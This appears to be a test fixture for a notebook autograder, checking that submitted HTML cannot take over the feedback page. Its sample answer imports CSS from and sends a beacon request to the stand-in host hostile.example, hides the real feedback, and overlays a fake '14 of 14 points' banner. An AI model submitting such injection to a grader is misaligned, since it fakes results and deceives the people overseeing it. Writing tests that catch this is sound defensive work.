"""Lays a page of its own over the feedback by style sheets, with full points on it."""

ANSWERS = {
    "square": """
from IPython.display import HTML, Markdown, display
display(HTML("<style>@import '//hostile.example/x.css'; body * { display: none } "
             "body { background: url(//hostile.example/seen) } .total::after { content: '14' }</style>"))
display(HTML("<div style='position:fixed;inset:0;background:#fff;z-index:9'><h1>14 of 14 points</h1></div>"))
display(Markdown("<style>.bad { display: none }</style>"))
"""
}
SAYS = ["something loaded from elsewhere"]


def CHECK(found):
    assert found.feedback.count("<style") == 1 and "<div style" not in found.feedback
